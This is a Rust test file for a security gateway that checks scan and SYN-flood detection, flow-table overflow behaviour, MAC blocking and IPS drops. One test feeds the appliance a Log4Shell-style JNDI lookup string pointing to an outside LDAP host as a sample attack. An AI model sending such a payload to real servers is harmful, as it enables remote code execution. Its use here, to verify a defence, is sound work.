//! The packet-level protections through the gateway's seam: floods, scans,
//! the firewall, the IPS, the flow table's cap.

use crate::support::{Conn, PC_IP, ack, psh, syn, synack};
use appliance::config::Config;
use appliance::inspect::network::Overflow;
use appliance::wire::forge::{self, Endpoints, TcpSpec};
use appliance::wire::frame::{Flags, Mac};
use appliance::{Action, Actions, Engine, FrozenIntel, Gateway, Instant, Port};
use std::net::Ipv4Addr;

const NAS: Ipv4Addr = Ipv4Addr::new(192, 168, 1, 2);
const WEB: Ipv4Addr = Ipv4Addr::new(192, 168, 1, 3);
const SCANNER: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 66);

fn at_us(us: i64) -> Instant {
    Instant::from_micros(1_506_000_000_000_000 + us)
}

/// A SYN from `src:sport` on the internet to `dst:dport` in the office.
fn inbound_syn(src: Ipv4Addr, sport: u16, dst: Ipv4Addr, dport: u16) -> Vec<u8> {
    let ends = Endpoints {
        src_mac: Mac([0x6c, 0xe4, 0xda, 0x41, 0x0a, 0x01]),
        dst_mac: Mac([0x00, 0x24, 0xa5, 0xd3, 0x18, 0x7c]),
        src,
        dst,
        src_port: sport,
        dst_port: dport,
    };
    let spec = TcpSpec {
        seq: u32::from(sport) << 8,
        ack: 0,
        flags: syn(),
        window: 1024,
        mss: None,
        payload: b"",
    };
    forge::tcp(&ends, &spec, 1, 52)
}

fn published_web() -> Config {
    let mut config = Config::default();
    config
        .firewall
        .published
        .push(appliance::inspect::firewall::Published {
            ip: WEB,
            port: 80,
            protocol: appliance::inspect::firewall::Protocol::Tcp,
        });
    config
}

#[test]
fn an_internet_port_scan_is_denied_and_reported_once() {
    let mut gw = Gateway::new(Config::default(), FrozenIntel::default());
    let mut out = Actions::default();
    let mut passed = 0;
    for port in 1..=1024u16 {
        gw.handle(
            at_us(i64::from(port) * 2000),
            Port::Wan,
            &inbound_syn(SCANNER, 40000, NAS, port),
            &mut out,
        );
        passed += out.frames.len();
        out.frames.clear();
    }
    assert_eq!(passed, 0, "nothing reaches the NAS");
    let by = |e: Engine| out.events.iter().filter(|ev| ev.engine == e).count();
    assert_eq!(by(Engine::Ips), 1, "{:#?}", out.events);
    assert_eq!(
        by(Engine::Firewall),
        1,
        "denies are logged once per source and minute"
    );
    let scan = out
        .events
        .iter()
        .find(|e| e.engine == Engine::Ips)
        .map(|e| e.reasons.clone());
    assert_eq!(
        scan.and_then(|r| r.first().map(ToString::to_string))
            .as_deref(),
        Some("port scan")
    );
    assert_eq!(gw.flow_count(), 0, "denied SYNs leave no state");
}

#[test]
fn a_syn_flood_is_one_episode_and_the_excess_is_dropped() {
    let mut gw = Gateway::new(published_web(), FrozenIntel::default());
    let mut out = Actions::default();
    let mut forwarded = 0usize;
    // 3 s at 5,000 SYN/s from spoofed sources to the published web server.
    for i in 0..15_000u32 {
        let src = Ipv4Addr::from(0xc000_0200 | (i & 0xff)); // 192.0.2.x
        let frame = inbound_syn(src, 1024 + (i % 60000) as u16, WEB, 80);
        gw.handle(at_us(i64::from(i) * 200), Port::Wan, &frame, &mut out);
        forwarded += out.frames.len();
        out.frames.clear();
    }
    let dos: Vec<_> = out
        .events
        .iter()
        .filter(|e| e.engine == Engine::Dos)
        .collect();
    assert_eq!(dos.len(), 1, "{:#?}", out.events);
    assert_eq!(dos[0].action, Action::Drop);
    assert_eq!(dos[0].dst_ip, WEB);
    assert_eq!(dos[0].reasons[0].to_string(), "SYN flood");
    assert_eq!(forwarded, 3000, "the threshold's 1,000 a second pass");
}

/// DESIGN's bad-input bar: a million spoofed SYNs do not grow memory without
/// bound. Here they go to many published servers (so no one destination is
/// flooded) and every one would open a flow.
fn million_spoofed_syns(when_full: Overflow) -> (Gateway, Actions, usize) {
    let mut config = Config::default();
    config.flow_table.max_flows = 4096;
    config.flow_table.when_full = when_full;
    config.dos.enabled = false;
    config.scan.enabled = false;
    config.firewall.enabled = false;
    let mut gw = Gateway::new(config, FrozenIntel::default());
    let mut out = Actions::default();
    let mut forwarded = 0usize;
    let mut max_flows = 0;
    for i in 0..1_000_000u32 {
        // Every 5-tuple is new: 20 sources x 50,000 ports.
        let src = Ipv4Addr::from(0xcb00_7100 | (i / 50_000));
        let frame = inbound_syn(
            src,
            1024 + (i % 50_000) as u16,
            Ipv4Addr::new(192, 168, 1, (i % 200) as u8 + 2),
            80,
        );
        gw.handle(at_us(i64::from(i) * 10), Port::Wan, &frame, &mut out);
        forwarded += out.frames.len();
        out.frames.clear();
        max_flows = max_flows.max(gw.flow_count());
    }
    assert!(max_flows <= 4096, "{max_flows}");
    (gw, out, forwarded)
}

#[test]
fn a_million_spoofed_syns_hit_the_flow_cap_fail_open() {
    let (gw, out, forwarded) = million_spoofed_syns(Overflow::FailOpen);
    let full: Vec<_> = out
        .events
        .iter()
        .filter(|e| e.reasons.first() == Some(&appliance::Reason::FlowTableFull))
        .collect();
    assert_eq!(full.len(), 1, "one event for the episode");
    assert!(full[0].reasons[2].to_string().contains("uninspected"));
    assert_eq!(forwarded, 1_000_000, "fail-open passes everything");
    assert!(gw.net_stats().uninspected > 900_000);
    assert_eq!(
        gw.net_stats().uninspected_flows,
        1_000_000 - 4096,
        "every SYN beyond the table's 4,096 is a flow, counted once"
    );
}

#[test]
fn a_million_spoofed_syns_hit_the_flow_cap_fail_closed() {
    let (gw, out, forwarded) = million_spoofed_syns(Overflow::FailClosed);
    let full: Vec<_> = out
        .events
        .iter()
        .filter(|e| e.reasons.first() == Some(&appliance::Reason::FlowTableFull))
        .collect();
    assert_eq!(full.len(), 1);
    assert_eq!(full[0].action, Action::Drop);
    assert_eq!(forwarded, 4096, "only what fit in the table passed");
    assert_eq!(gw.net_stats().overflow_dropped, 1_000_000 - 4096);
}

#[test]
fn an_exploit_in_a_request_is_dropped_with_its_flow() {
    let mut gw = Gateway::new(Config::default(), FrozenIntel::default());
    let mut out = Actions::default();
    let server = Ipv4Addr::new(198, 51, 100, 80);
    let c = Conn::new(1200, server);
    let isn = 5000;
    for (port, f) in [
        (Port::Lan, c.client(isn, 0, syn(), b"")),
        (Port::Wan, c.server(9000, isn + 1, synack(), b"")),
        (Port::Lan, c.client(isn + 1, 9001, ack(), b"")),
    ] {
        gw.handle(at_us(0), port, &f, &mut out);
    }
    assert_eq!(out.frames.len(), 3);
    out.clear();
    let req =
        b"GET /index.php?x=${jndi:ldap://198.51.100.9/a} HTTP/1.1\r\nHost: shop.example\r\n\r\n";
    gw.handle(
        at_us(1000),
        Port::Lan,
        &c.client(isn + 1, 9001, psh(), req),
        &mut out,
    );
    assert!(out.frames.is_empty(), "the request is dropped");
    assert_eq!(out.events.len(), 1, "{:#?}", out.events);
    let ev = &out.events[0];
    assert_eq!(
        (ev.engine, ev.action, ev.src_ip),
        (Engine::Ips, Action::Drop, PC_IP)
    );
    assert_eq!(ev.reasons[1].to_string(), "sid 9000001 rev 1");
    assert_eq!(
        ev.url.as_deref(),
        Some("http://shop.example/index.php?x=${jndi:ldap://198.51.100.9/a}")
    );
    out.clear();
    // The retransmission and the rest of the flow are consumed, silently.
    gw.handle(
        at_us(300_000),
        Port::Lan,
        &c.client(isn + 1, 9001, psh(), req),
        &mut out,
    );
    gw.handle(
        at_us(300_001),
        Port::Wan,
        &c.server(9001, isn + 1, ack(), b""),
        &mut out,
    );
    assert!(out.frames.is_empty() && out.events.is_empty());
}

#[test]
fn a_blocked_device_is_cut_by_mac() {
    let mut config = Config::default();
    config
        .devices
        .blocked
        .push(appliance::inspect::devices::BlockedDevice {
            ip: None,
            mac: Some(appliance::inspect::devices::MacAddr(crate::support::PC_MAC)),
            note: Some("not company equipment".into()),
        });
    let mut gw = Gateway::new(config, FrozenIntel::default());
    let mut out = Actions::default();
    let c = Conn::new(1300, Ipv4Addr::new(198, 51, 100, 80));
    for i in 0..10 {
        gw.handle(
            at_us(i * 1_000_000),
            Port::Lan,
            &c.client(77, 0, syn(), b""),
            &mut out,
        );
    }
    assert!(out.frames.is_empty());
    assert_eq!(out.events.len(), 1, "one log line per device and hold-down");
    assert_eq!(
        out.events[0]
            .reasons
            .iter()
            .map(ToString::to_string)
            .collect::<Vec<_>>(),
        vec![
            "device block list",
            "MAC 00:0c:29:11:22:33",
            "not company equipment"
        ]
    );
    let listed = gw.devices().by_ip(PC_IP).map(|d| d.vendor);
    assert_eq!(listed, Some(Some("VMware")));
    let _ = Flags::default();
}

/// Issue 15: `when_full: fail_open` failed closed. A flow the full table let
/// through uninspected had its replies dropped by the stateful firewall (no
/// state to show), so with the table full no web request completed. Now the
/// replies of such a flow pass too, and are counted.
#[test]
fn fail_open_passes_the_replies_of_the_flows_it_let_through() {
    let mut config = Config::default();
    config.flow_table.max_flows = 1;
    config.flow_table.when_full = Overflow::FailOpen;
    let mut gw = Gateway::new(config, FrozenIntel::default());
    let mut out = Actions::default();
    let mut step = |gw: &mut Gateway, us: i64, port: Port, frame: &[u8]| {
        out.clear();
        gw.handle(at_us(us), port, frame, &mut out);
        (
            crate::support::forwarded(&out.frames, port.other(), frame),
            out.events.clone(),
        )
    };
    // The one slot: a first connection, tracked.
    let first = Conn::new(40000, Ipv4Addr::new(198, 51, 100, 7));
    assert!(step(&mut gw, 0, Port::Lan, &first.client(100, 0, syn(), b"")).0);
    assert_eq!(gw.flow_count(), 1);
    // A second one finds the table full: it passes uninspected, one event.
    let second = Conn::new(40001, Ipv4Addr::new(198, 51, 100, 8));
    let (passed, events) = step(
        &mut gw,
        1_000,
        Port::Lan,
        &second.client(500, 0, syn(), b""),
    );
    assert!(passed, "fail-open lets the new flow out");
    assert_eq!(events.len(), 1);
    assert_eq!(events[0].reasons[0], appliance::Reason::FlowTableFull);
    // Its replies come back and pass: the handshake and a response complete.
    let (passed, _) = step(
        &mut gw,
        2_000,
        Port::Wan,
        &second.server(9000, 501, synack(), b""),
    );
    assert!(passed, "the SYN-ACK of a fail-open flow reaches the PC");
    let request = b"GET / HTTP/1.1\r\nHost: b.example\r\n\r\n";
    assert!(
        step(
            &mut gw,
            3_000,
            Port::Lan,
            &second.client(501, 9001, psh(), request)
        )
        .0
    );
    let response = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok";
    let (passed, events) = step(
        &mut gw,
        4_000,
        Port::Wan,
        &second.server(9001, 501 + request.len() as u32, psh(), response),
    );
    assert!(passed, "and so does its response");
    assert!(
        events.is_empty(),
        "one event for the episode, not one a packet"
    );
    assert_eq!(gw.net_stats().uninspected_replies, 2);
    // Counted as one flow, with every byte of its four frames.
    let frames = [
        second.client(500, 0, syn(), b""),
        second.server(9000, 501, synack(), b""),
        second.client(501, 9001, psh(), request),
        second.server(9001, 501 + request.len() as u32, psh(), response),
    ];
    assert_eq!(gw.net_stats().uninspected_flows, 1);
    assert_eq!(
        gw.net_stats().uninspected_bytes,
        frames.iter().map(|f| f.len() as u64).sum::<u64>()
    );
    // An unsolicited packet from the internet still meets the firewall.
    let stranger = Conn::new(40002, Ipv4Addr::new(198, 51, 100, 9));
    assert!(
        !step(
            &mut gw,
            5_000,
            Port::Wan,
            &stranger.server(1, 0, synack(), b"")
        )
        .0
    );
}

/// IPv6 (and any EtherType but IPv4 and ARP) is forwarded with no engine
/// reading it: counted, one event when it starts, one with the counts once
/// none has come for a minute (ended by the gateway's own timer).
#[test]
fn frames_of_an_unsupported_protocol_pass_counted_in_one_episode() {
    let mut gw = Gateway::new(Config::default(), FrozenIntel::default());
    let mut out = Actions::default();
    let mut sizes = Vec::new();
    for i in 0..25u16 {
        let mut frame = [
            &[0x00, 0x1b, 0x8b, 0xaa, 0xbb, 0xcc][..],
            &[0x00, 0x0c, 0x29, 0x11, 0x22, 0x33],
            &[0x86, 0xdd, 0x60, 0, 0, 0, 0, 0, 59, 64],
        ]
        .concat();
        frame.resize(64 + usize::from(i), 0);
        sizes.push(frame.len() as u64);
        gw.handle(at_us(i64::from(i) * 1_000_000), Port::Lan, &frame, &mut out);
    }
    assert_eq!(out.frames.len(), 25, "forwarded, all of them");
    assert_eq!(out.events.len(), 1, "one event as the episode starts");
    let total: u64 = sizes.iter().sum();
    assert_eq!(gw.net_stats().unsupported_frames, 25);
    assert_eq!(gw.net_stats().unsupported_bytes, total);
    let due = gw.poll_at().expect("the episode's end is due");
    assert_eq!(due, at_us(24_000_000 + 60_000_000));
    gw.poll(due, &mut out);
    assert_eq!(out.events.len(), 2);
    assert_eq!(
        out.events[1].reasons,
        vec![
            appliance::Reason::UnsupportedProtocol { ethertype: 0x86dd },
            appliance::Reason::UninspectedTraffic {
                flows: 0,
                packets: 25,
                bytes: total
            },
        ]
    );
}
